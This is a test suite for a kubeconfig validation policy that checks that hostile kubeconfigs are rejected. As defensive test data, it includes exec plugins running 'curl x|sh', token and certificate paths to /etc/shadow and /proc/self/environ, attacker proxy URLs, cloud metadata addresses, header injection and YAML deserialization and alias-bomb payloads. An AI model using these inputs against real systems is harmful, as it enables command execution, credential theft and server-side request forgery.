import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { ValidationError } from '../../../functions/core/errors.ts';
import { MAX_KUBECONFIG_BYTES, parseAndValidateKubeconfig } from '../../../functions/core/clusters/kubeconfig-policy.ts';
import type { KubeconfigPolicyOptions } from '../../../functions/core/clusters/kubeconfig-policy.ts';
import { b64, clusterWith, kubeconfigObject, kubeconfigYaml, pki } from './fixtures.ts';

const opts: KubeconfigPolicyOptions = { allowLoopback: false };

function rejection(raw: string, options: KubeconfigPolicyOptions = opts): ValidationError {
  try {
    parseAndValidateKubeconfig(raw, options);
  } catch (err) {
    expect(err).toBeInstanceOf(ValidationError);
    return err as ValidationError;
  }
  throw new Error('expected the kubeconfig to be rejected');
}

function expectRejected(raw: string, code: 'UNSAFE_KUBECONFIG' | 'INVALID_KUBECONFIG', field: string, options = opts): void {
  const err = rejection(raw, options);
  expect(err.kind).toBe('invalid');
  expect(err.code).toBe(code);
  expect(err.message).toContain(field);
}

const CA = () => b64(pki().caCertPem);
const user = (extra: Record<string, unknown>) => kubeconfigYaml({ user: { token: 't0ken', ...extra } });

describe('accepted kubeconfigs', () => {
  it('accepts a bearer-token kubeconfig', () => {
    const safe = parseAndValidateKubeconfig(kubeconfigYaml({ token: 'abc.def' }), opts);
    expect(safe).toEqual({
      server: 'https://k8s.example.com:6443',
      caData: CA(),
      contextName: 'main',
      clusterName: 'c1',
      user: { token: 'abc.def' },
    });
  });

  it('accepts a client-certificate kubeconfig', () => {
    const p = pki();
    const raw = kubeconfigYaml({ user: { 'client-certificate-data': b64(p.clientCertPem), 'client-key-data': b64(p.clientKeyPem) } });
    const safe = parseAndValidateKubeconfig(raw, opts);
    expect(safe.user).toEqual({ certData: b64(p.clientCertPem), keyData: b64(p.clientKeyPem) });
  });

  it('accepts explicit insecure-skip-tls-verify: false, a path prefix and a private address', () => {
    const raw = kubeconfigYaml({ cluster: clusterWith({ server: 'https://10.1.2.3:443/k8s/clusters/c-1/', 'insecure-skip-tls-verify': false }) });
    expect(parseAndValidateKubeconfig(raw, opts).server).toBe('https://10.1.2.3/k8s/clusters/c-1');
  });

  it('accepts loopback only when allowed', () => {
    const raw = kubeconfigYaml({ server: 'https://127.0.0.1:6443' });
    expect(parseAndValidateKubeconfig(raw, { allowLoopback: true }).server).toBe('https://127.0.0.1:6443');
    expectRejected(raw, 'UNSAFE_KUBECONFIG', 'clusters[0].cluster.server');
  });

  it('accepts JSON kubeconfigs and kind-style extensions', () => {
    const obj = kubeconfigObject({ cluster: clusterWith({ extensions: [{ name: 'x', extension: { a: 1 } }] }) });
    expect(parseAndValidateKubeconfig(JSON.stringify(obj), opts).clusterName).toBe('c1');
  });

  it('selects the context from the option, then current-context, then the only context', () => {
    const obj = kubeconfigObject();
    const p = pki();
    (obj.clusters as unknown[]).push({ name: 'c2', cluster: { server: 'https://other.example.com', 'certificate-authority-data': b64(p.caCertPem) } });
    (obj.users as unknown[]).push({ name: 'u2', user: { token: 'second' } });
    (obj.contexts as unknown[]).push({ name: 'second', context: { cluster: 'c2', user: 'u2' } });
    expect(parseAndValidateKubeconfig(stringify(obj), opts).user).toEqual({ token: 'sha256~abc.DEF-123_xyz' });
    const picked = parseAndValidateKubeconfig(stringify(obj), { ...opts, context: 'second' });
    expect(picked).toMatchObject({ contextName: 'second', clusterName: 'c2', server: 'https://other.example.com', user: { token: 'second' } });

    const single = kubeconfigObject();
    delete single['current-context'];
    expect(parseAndValidateKubeconfig(stringify(single), opts).contextName).toBe('main');

    delete obj['current-context'];
    expectRejected(stringify(obj), 'INVALID_KUBECONFIG', 'current-context');
    expectRejected(stringify(obj), 'INVALID_KUBECONFIG', 'contexts', { ...opts, context: 'nope' });
  });

  it('drops other contexts, clusters and users without loading anything from them', () => {
    const obj = kubeconfigObject();
    (obj.clusters as unknown[]).push({
      name: 'evil',
      cluster: { server: 'http://169.254.169.254', 'insecure-skip-tls-verify': true, 'proxy-url': 'socks5://x' },
    });
    (obj.users as unknown[]).push({ name: 'evil', user: { exec: { command: 'sh', args: ['-c', 'id'] }, 'token-file': '/etc/shadow' } });
    (obj.contexts as unknown[]).push({ name: 'evil', context: { cluster: 'evil', user: 'evil' } });
    const safe = parseAndValidateKubeconfig(stringify(obj), opts);
    expect(JSON.stringify(safe)).not.toMatch(/evil|exec|shadow|169\.254|socks/);
    expect(Object.keys(safe).sort()).toEqual(['caData', 'clusterName', 'contextName', 'server', 'user']);
    // …but selecting the hostile context is refused.
    expectRejected(stringify(obj), 'UNSAFE_KUBECONFIG', 'clusters[1].cluster', { ...opts, context: 'evil' });
  });
});

interface Case {
  name: string;
  raw: string;
  code: 'UNSAFE_KUBECONFIG' | 'INVALID_KUBECONFIG';
  field: string;
}

const U = 'users[0].user';
const C = 'clusters[0].cluster';

const hostile: Case[] = [
  // exec and auth providers
  {
    name: 'exec plugin',
    raw: user({ exec: { apiVersion: 'client.authentication.k8s.io/v1', command: 'sh', args: ['-c', 'curl x|sh'] } }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${U}.exec`,
  },
  { name: 'exec without token', raw: kubeconfigYaml({ user: { exec: { command: 'aws' } } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.exec` },
  { name: 'exec capitalised', raw: user({ Exec: { command: 'sh' } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.Exec` },
  { name: 'exec with trailing space', raw: user({ 'exec ': { command: 'sh' } }), code: 'UNSAFE_KUBECONFIG', field: `${U}["exec "]` },
  { name: 'exec as quoted key', raw: kubeconfigYaml().replace('token:', '"exec": {command: sh}\n      token:'), code: 'UNSAFE_KUBECONFIG', field: `${U}.exec` },
  { name: 'exec upper case', raw: user({ EXEC: { command: 'sh' } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.EXEC` },
  {
    name: 'auth-provider',
    raw: user({ 'auth-provider': { name: 'gcp', config: { 'cmd-path': '/bin/sh' } } }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${U}.auth-provider`,
  },
  { name: 'authProvider camel case', raw: user({ authProvider: { name: 'oidc' } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.authProvider` },
  // file paths
  { name: 'token-file', raw: kubeconfigYaml({ user: { 'token-file': '/etc/shadow' } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.token-file` },
  { name: 'tokenFile', raw: user({ tokenFile: '/var/run/secrets/token' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.tokenFile` },
  {
    name: 'client-certificate path',
    raw: kubeconfigYaml({ user: { 'client-certificate': '/root/.ssh/id_rsa', 'client-key-data': 'eA==' } }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${U}.client-certificate`,
  },
  {
    name: 'client-key path',
    raw: kubeconfigYaml({ user: { 'client-certificate-data': b64(pki().clientCertPem), 'client-key': '/proc/self/environ' } }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${U}.client-key`,
  },
  {
    name: 'certificate-authority path',
    raw: kubeconfigYaml({ cluster: { server: 'https://k8s.example.com', 'certificate-authority': '/etc/passwd' } }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.certificate-authority`,
  },
  {
    name: 'certificate-authority path next to data',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'certificate-authority': '/etc/passwd' }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.certificate-authority`,
  },
  // TLS and proxies
  {
    name: 'insecure-skip-tls-verify true',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'insecure-skip-tls-verify': true }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.insecure-skip-tls-verify`,
  },
  {
    name: 'insecure-skip-tls-verify "true"',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'insecure-skip-tls-verify': 'true' }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.insecure-skip-tls-verify`,
  },
  {
    name: 'insecure-skip-tls-verify yes',
    raw: kubeconfigYaml({ cluster: clusterWith({}) }).replace('server:', 'insecure-skip-tls-verify: yes\n      server:'),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.insecure-skip-tls-verify`,
  },
  {
    name: 'insecure-skip-tls-verify 1',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'insecure-skip-tls-verify': 1 }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.insecure-skip-tls-verify`,
  },
  {
    name: 'insecure-skip-tls-verify "false" string',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'insecure-skip-tls-verify': 'false' }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.insecure-skip-tls-verify`,
  },
  {
    name: 'insecureSkipTLSVerify camel case',
    raw: kubeconfigYaml({ cluster: clusterWith({ insecureSkipTLSVerify: true }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.insecureSkipTLSVerify`,
  },
  {
    name: 'proxy-url http',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'proxy-url': 'http://attacker:3128' }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.proxy-url`,
  },
  {
    name: 'proxy-url socks',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'proxy-url': 'socks5://attacker:1080' }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.proxy-url`,
  },
  {
    name: 'tls-server-name',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'tls-server-name': 'kubernetes' }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.tls-server-name`,
  },
  {
    name: 'unknown cluster key',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'disable-compression': true }) }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.disable-compression`,
  },
  // impersonation and basic auth
  { name: 'as', raw: user({ as: 'system:admin' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.as` },
  { name: 'as-uid', raw: user({ 'as-uid': '0' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.as-uid` },
  { name: 'as-groups', raw: user({ 'as-groups': ['system:masters'] }), code: 'UNSAFE_KUBECONFIG', field: `${U}.as-groups` },
  { name: 'as-user-extra', raw: user({ 'as-user-extra': { scopes: ['x'] } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.as-user-extra` },
  { name: 'impersonate camel case', raw: user({ impersonate: 'admin' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.impersonate` },
  { name: 'username/password', raw: kubeconfigYaml({ user: { username: 'admin', password: 'hunter2' } }), code: 'UNSAFE_KUBECONFIG', field: `${U}.username` },
  { name: 'password alone', raw: user({ password: 'hunter2' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.password` },
  { name: 'unknown user key', raw: user({ 'client-secret': 'x' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.client-secret` },
  {
    name: 'unknown key in the users entry',
    raw: kubeconfigYaml().replace('- name: u1', '- name: u1\n    exec: {command: sh}'),
    code: 'UNSAFE_KUBECONFIG',
    field: 'users[0].exec',
  },
  { name: 'unknown root key', raw: kubeconfigYaml({ extraRoot: { 'exec-plugins': [] } }), code: 'UNSAFE_KUBECONFIG', field: 'exec-plugins' },
  { name: '__proto__ key', raw: user({}).replace('token:', '__proto__: {exec: x}\n      token:'), code: 'UNSAFE_KUBECONFIG', field: `${U}.__proto__` },
  // server
  { name: 'plain http', raw: kubeconfigYaml({ server: 'http://k8s.example.com:8080' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'HTTP upper case', raw: kubeconfigYaml({ server: 'HTTP://k8s.example.com' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'no scheme', raw: kubeconfigYaml({ server: 'k8s.example.com:6443' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'unix socket', raw: kubeconfigYaml({ server: 'unix:///var/run/docker.sock' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'userinfo', raw: kubeconfigYaml({ server: 'https://admin:pw@k8s.example.com' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  {
    name: 'userinfo without password',
    raw: kubeconfigYaml({ server: 'https://k8s.example.com@169.254.169.254' }),
    code: 'UNSAFE_KUBECONFIG',
    field: `${C}.server`,
  },
  { name: 'metadata address', raw: kubeconfigYaml({ server: 'https://169.254.169.254' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'metadata in hex', raw: kubeconfigYaml({ server: 'https://0xa9fea9fe' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'metadata in decimal', raw: kubeconfigYaml({ server: 'https://2852039166:443' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'metadata IPv6', raw: kubeconfigYaml({ server: 'https://[fd00:ec2::254]' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'metadata IPv4-mapped', raw: kubeconfigYaml({ server: 'https://[::ffff:169.254.169.254]' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'localhost', raw: kubeconfigYaml({ server: 'https://localhost:6443' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'non-canonical private address', raw: kubeconfigYaml({ server: 'https://012.0.0.1' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'query string', raw: kubeconfigYaml({ server: 'https://k8s.example.com/?x=1' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'whitespace in server', raw: kubeconfigYaml({ server: 'https://k8s.example.com /x' }), code: 'UNSAFE_KUBECONFIG', field: `${C}.server` },
  { name: 'missing server', raw: kubeconfigYaml({ cluster: { 'certificate-authority-data': CA() } }), code: 'INVALID_KUBECONFIG', field: `${C}.server` },
  // CA
  {
    name: 'missing CA',
    raw: kubeconfigYaml({ cluster: { server: 'https://k8s.example.com' } }),
    code: 'INVALID_KUBECONFIG',
    field: `${C}.certificate-authority-data`,
  },
  {
    name: 'CA not base64',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'certificate-authority-data': 'not base64!' }) }),
    code: 'INVALID_KUBECONFIG',
    field: `${C}.certificate-authority-data`,
  },
  {
    name: 'CA not a certificate',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'certificate-authority-data': b64('hello') }) }),
    code: 'INVALID_KUBECONFIG',
    field: `${C}.certificate-authority-data`,
  },
  {
    name: 'CA is a private key',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'certificate-authority-data': b64(pki().caKeyPem) }) }),
    code: 'INVALID_KUBECONFIG',
    field: `${C}.certificate-authority-data`,
  },
  {
    name: 'CA with a garbage body',
    raw: kubeconfigYaml({ cluster: clusterWith({ 'certificate-authority-data': b64('-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n') }) }),
    code: 'INVALID_KUBECONFIG',
    field: `${C}.certificate-authority-data`,
  },
  // credentials
  { name: 'no credentials', raw: kubeconfigYaml({ user: {} }), code: 'INVALID_KUBECONFIG', field: U },
  {
    name: 'token and certificate',
    raw: user({ 'client-certificate-data': b64(pki().clientCertPem), 'client-key-data': b64(pki().clientKeyPem) }),
    code: 'INVALID_KUBECONFIG',
    field: U,
  },
  {
    name: 'key without certificate',
    raw: kubeconfigYaml({ user: { 'client-key-data': b64(pki().clientKeyPem) } }),
    code: 'INVALID_KUBECONFIG',
    field: `${U}.client-certificate-data`,
  },
  { name: 'token with CRLF', raw: kubeconfigYaml({ token: 'abc\r\nX-Evil: 1' }), code: 'UNSAFE_KUBECONFIG', field: `${U}.token` },
  { name: 'token not a string', raw: kubeconfigYaml({ user: { token: { a: 1 } } }), code: 'INVALID_KUBECONFIG', field: `${U}.token` },
  // YAML tricks
  {
    name: '!!js/function tag',
    raw: kubeconfigYaml().replace('token: sha256~abc.DEF-123_xyz', 'token: !!js/function "function(){}"'),
    code: 'UNSAFE_KUBECONFIG',
    field: `${U}.token`,
  },
  { name: 'custom !foo tag', raw: kubeconfigYaml().replace('kind: Config', 'kind: !foo Config'), code: 'UNSAFE_KUBECONFIG', field: 'kind' },
  { name: '!!str tag', raw: kubeconfigYaml().replace('kind: Config', 'kind: !!str Config'), code: 'UNSAFE_KUBECONFIG', field: 'kind' },
  { name: '!!binary tag', raw: kubeconfigYaml().replace('kind: Config', 'kind: !!binary Q29uZmln'), code: 'UNSAFE_KUBECONFIG', field: 'kind' },
  {
    name: 'tag in preferences',
    raw: `${kubeconfigYaml()}preferences:\n  x: !!python/object:os.system ls\n`,
    code: 'UNSAFE_KUBECONFIG',
    field: 'preferences.x',
  },
  {
    name: 'tag in a non-selected user',
    raw: kubeconfigYaml().replace('users:\n', 'users:\n  - name: other\n    user: {exec: !!js/function "function(){}"}\n'),
    code: 'UNSAFE_KUBECONFIG',
    field: 'users[0].user.exec',
  },
  {
    name: 'alias in a non-selected user',
    raw: kubeconfigYaml().replace('users:\n', 'users:\n  - name: &n other\n    user: {token: *n}\n'),
    code: 'UNSAFE_KUBECONFIG',
    field: 'users[0].name',
  },
  {
    name: 'anchor and alias',
    raw: kubeconfigYaml().replace('kind: Config', 'kind: &k Config\npreferences: {a: *k}'),
    code: 'UNSAFE_KUBECONFIG',
    field: 'kind',
  },
  {
    name: 'alias bomb',
    raw: 'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n',
    code: 'UNSAFE_KUBECONFIG',
    field: 'a',
  },
  { name: 'merge key', raw: kubeconfigYaml().replace('  user:\n', '  user:\n      <<: {exec: x}\n'), code: 'UNSAFE_KUBECONFIG', field: `${U}["<<"]` },
  { name: 'duplicate key', raw: kubeconfigYaml().replace('token:', 'token: a\n      token:'), code: 'UNSAFE_KUBECONFIG', field: 'duplicate' },
  {
    name: 'duplicate user names',
    raw: kubeconfigYaml().replace('users:\n', 'users:\n  - name: u1\n    user: {token: other}\n'),
    code: 'UNSAFE_KUBECONFIG',
    field: 'users[1].name',
  },
  { name: 'multi-document', raw: `${kubeconfigYaml()}---\n${kubeconfigYaml()}`, code: 'UNSAFE_KUBECONFIG', field: 'multiple' },
  { name: 'YAML 1.1 directive', raw: `%YAML 1.1\n---\n${kubeconfigYaml()}`, code: 'UNSAFE_KUBECONFIG', field: 'directive' },
  {
    name: 'over 64 KiB',
    raw: kubeconfigYaml({ extraRoot: { preferences: { pad: 'x'.repeat(MAX_KUBECONFIG_BYTES) } } }),
    code: 'UNSAFE_KUBECONFIG',
    field: 'bytes',
  },
  {
    name: '64 KiB counted in bytes, not characters',
    raw: kubeconfigYaml({ extraRoot: { preferences: { pad: 'é'.repeat(MAX_KUBECONFIG_BYTES / 2) } } }),
    code: 'UNSAFE_KUBECONFIG',
    field: 'bytes',
  },
  // resource exhaustion: yaml 2.9.1 kills the process on the parse after a stack overflow
  { name: 'deep flow sequences', raw: '['.repeat(60000), code: 'UNSAFE_KUBECONFIG', field: 'nested' },
  { name: 'deep flow mappings', raw: '{'.repeat(30000) + '}'.repeat(30000), code: 'UNSAFE_KUBECONFIG', field: 'nested' },
  { name: 'deep flow mappings again (same process)', raw: '{a: '.repeat(10000) + '}'.repeat(10000), code: 'UNSAFE_KUBECONFIG', field: 'nested' },
  { name: 'deep compact block sequences', raw: '- '.repeat(30000) + 'x', code: 'UNSAFE_KUBECONFIG', field: 'nested' },
  { name: 'deep explicit keys', raw: '? '.repeat(30000) + 'x', code: 'UNSAFE_KUBECONFIG', field: 'nested' },
  { name: 'deep indentation', raw: Array.from({ length: 300 }, (_, i) => ' '.repeat(i) + 'k:').join('\n') + ' v', code: 'UNSAFE_KUBECONFIG', field: 'nested' },
  {
    name: 'deep nesting inside a valid kubeconfig',
    raw: `${kubeconfigYaml()}preferences: ${'['.repeat(100)}${']'.repeat(100)}\n`,
    code: 'UNSAFE_KUBECONFIG',
    field: 'nested',
  },
  // malformed
  { name: 'empty', raw: '', code: 'INVALID_KUBECONFIG', field: 'empty' },
  { name: 'scalar root', raw: 'just a string', code: 'INVALID_KUBECONFIG', field: 'root' },
  { name: 'sequence root', raw: '- a\n- b\n', code: 'INVALID_KUBECONFIG', field: 'root' },
  { name: 'null root', raw: '~\n', code: 'INVALID_KUBECONFIG', field: 'root' },
  { name: 'syntax error', raw: 'clusters: [\n', code: 'INVALID_KUBECONFIG', field: 'YAML' },
  { name: 'no contexts', raw: 'apiVersion: v1\nkind: Config\n', code: 'INVALID_KUBECONFIG', field: 'contexts' },
  { name: 'context names a missing cluster', raw: kubeconfigYaml().replace('cluster: c1', 'cluster: nope'), code: 'INVALID_KUBECONFIG', field: 'clusters' },
  { name: 'wrong kind', raw: kubeconfigYaml().replace('kind: Config', 'kind: Pod'), code: 'INVALID_KUBECONFIG', field: 'kind' },
  {
    name: 'cluster is not a mapping',
    raw: kubeconfigYaml({ cluster: 'https://x' as unknown as Record<string, unknown> }),
    code: 'INVALID_KUBECONFIG',
    field: C,
  },
];

describe('hostile and broken kubeconfigs', () => {
  it.each(hostile.map((c) => [c.name, c] as const))('rejects %s', (_name, c) => {
    expectRejected(c.raw, c.code, c.field);
  });
});

describe('nothing runs, nothing is read', () => {
  const dir = mkdtempSync(join(tmpdir(), 'kubeconfig-policy-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('rejects exec/token-file payloads and the sentinel never appears', () => {
    const sentinel = join(dir, 'pwned');
    const payloads = [
      { exec: { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'touch', args: [sentinel] } },
      { exec: { command: 'sh', args: ['-c', `touch ${sentinel}`] }, token: 'x' },
      { 'auth-provider': { name: 'gcp', config: { 'cmd-path': 'touch', 'cmd-args': sentinel } } },
      { 'token-file': '/etc/shadow' },
      { 'client-certificate': '/etc/shadow', 'client-key': '/etc/shadow' },
    ];
    for (const payload of payloads) {
      const err = rejection(kubeconfigYaml({ user: payload }));
      expect(err.code).toBe('UNSAFE_KUBECONFIG');
      expect(err.message).not.toContain('root:');
    }
    expect(existsSync(sentinel)).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------
// Property-based tests

// "--" in the third and fourth places is IDNA's reserved form ("xn--0" is no valid punycode; the URL parser refuses it).
const label = fc.stringMatching(/^[a-z][a-z0-9-]{0,14}[a-z0-9]$/).filter((l) => l.slice(2, 4) !== '--');
const hostArb = fc
  .tuple(fc.array(label, { minLength: 1, maxLength: 3 }), fc.constantFrom('com', 'io', 'net', 'internal', 'cloud'))
  .map(([labels, tld]) => [...labels, tld].join('.'));
const tokenArb = fc.stringMatching(/^[A-Za-z0-9._~+/=-]{1,80}$/);
const nameArb = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9_.:@-]{0,30}$/);

describe('properties', () => {
  it('random valid kubeconfigs are accepted and round-trip server and token', () => {
    fc.assert(
      fc.property(
        hostArb,
        fc.option(fc.integer({ min: 1, max: 65535 }), { nil: undefined }),
        tokenArb,
        nameArb,
        nameArb,
        nameArb,
        fc.boolean(),
        fc.boolean(),
        (host, port, token, ctxName, clName, usName, decoys, json) => {
          const server = `https://${host}${port === undefined || port === 443 ? '' : `:${port}`}`;
          const doc: Record<string, unknown> = {
            apiVersion: 'v1',
            kind: 'Config',
            'current-context': ctxName,
            clusters: [{ name: clName, cluster: { server, 'certificate-authority-data': CA() } }],
            contexts: [{ name: ctxName, context: { cluster: clName, user: usName } }],
            users: [{ name: usName, user: { token } }],
          };
          if (decoys) {
            (doc.users as unknown[]).unshift({ name: `${usName}-decoy`, user: { exec: { command: 'sh' } } });
            (doc.clusters as unknown[]).push({ name: `${clName}-decoy`, cluster: { server: 'http://169.254.169.254' } });
            (doc.contexts as unknown[]).push({ name: `${ctxName}-decoy`, context: { cluster: `${clName}-decoy`, user: `${usName}-decoy` } });
          }
          const safe = parseAndValidateKubeconfig(json ? JSON.stringify(doc) : stringify(doc), opts);
          expect(safe).toEqual({ server, caData: CA(), contextName: ctxName, clusterName: clName, user: { token } });
        },
      ),
      { numRuns: 200 },
    );
  });

  const forbiddenUserKey = fc.constantFrom(
    'exec',
    'auth-provider',
    'token-file',
    'tokenFile',
    'client-certificate',
    'client-key',
    'as',
    'as-uid',
    'as-groups',
    'as-user-extra',
    'username',
    'password',
  );
  const forbiddenClusterKey = fc.constantFrom('insecure-skip-tls-verify', 'certificate-authority', 'proxy-url', 'tls-server-name');
  const spelling = (k: string) =>
    fc.constantFrom(k, k.toUpperCase(), k[0].toUpperCase() + k.slice(1), `${k} `, ` ${k}`, `${k}\t`, k.replace(/-/g, '_'), k.replace(/-/g, ''));
  const value = fc.oneof(
    fc.constant(true),
    fc.constant('/etc/shadow'),
    fc.constant({ command: 'sh' }),
    fc.constant(['system:masters']),
    fc.string(),
    fc.integer(),
  );

  it('a forbidden key injected into the selected user is always rejected', () => {
    fc.assert(
      fc.property(forbiddenUserKey.chain(spelling), value, (key, v) => {
        const err = rejection(kubeconfigYaml({ user: { token: 'abc', [key]: v } }));
        expect(err.code).toBe('UNSAFE_KUBECONFIG');
        expect(err.message).toContain('users[0].user');
      }),
      { numRuns: 300 },
    );
  });

  it('a forbidden key injected into the selected cluster is always rejected', () => {
    fc.assert(
      fc.property(
        forbiddenClusterKey.chain(spelling),
        value.filter((v) => (v as unknown) !== false),
        (key, v) => {
          const err = rejection(kubeconfigYaml({ cluster: clusterWith({ [key]: v }) }));
          expect(err.code).toBe('UNSAFE_KUBECONFIG');
          expect(err.message).toContain('clusters[0].cluster');
        },
      ),
      { numRuns: 300 },
    );
  });

  it('arbitrary input only ever produces a 400 ValidationError (never a crash or another error)', () => {
    const yamlish = fc
      .array(fc.constantFrom('[', ']', '{', '}', '- ', '? ', ': ', '\n', '  ', '&a ', '*a', '!t ', '"', "'", 'x', ',', '#', '|', '>', '%', '---\n'), {
        maxLength: 200,
      })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 300 }), yamlish), (raw) => {
        try {
          parseAndValidateKubeconfig(raw, opts);
        } catch (err) {
          expect(err).toBeInstanceOf(ValidationError);
          expect((err as ValidationError).kind).toBe('invalid');
          return;
        }
        throw new Error('random input accepted');
      }),
      { numRuns: 1000 },
    );
  });

  it('a deeply nested complex key is refused without printing it (printing grows exponentially with depth)', () => {
    // Found by the property below (seed -1484672511): 28 levels of "? " used to end in RangeError: Invalid string length.
    for (const n of [20, 28, 31]) expect(rejection('? '.repeat(n) + 'x').message).toMatch(/non-string key a mapping/);
  });

  it('random nesting depth: shallow accepted as YAML, deep refused before composing', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5000 }), fc.constantFrom('[', '{', '- ', '? '), (n, open) => {
        const err = rejection(open.repeat(n) + 'x');
        expect(err.kind).toBe('invalid');
      }),
      { numRuns: 100 },
    );
  });

  it('any key that is not exactly allowed is rejected in user and cluster', () => {
    const allowed = new Set(['token', 'client-certificate-data', 'client-key-data', 'server', 'certificate-authority-data', 'extensions']);
    fc.assert(
      fc.property(
        fc.string({ minLength: 1, maxLength: 20 }).filter((k) => !allowed.has(k)),
        fc.boolean(),
        (key, inUser) => {
          const raw = inUser ? kubeconfigYaml({ user: { token: 'abc', [key]: 'x' } }) : kubeconfigYaml({ cluster: clusterWith({ [key]: 'x' }) });
          const err = rejection(raw);
          expect(err.code).toBe('UNSAFE_KUBECONFIG');
        },
      ),
      { numRuns: 300 },
    );
  });
});
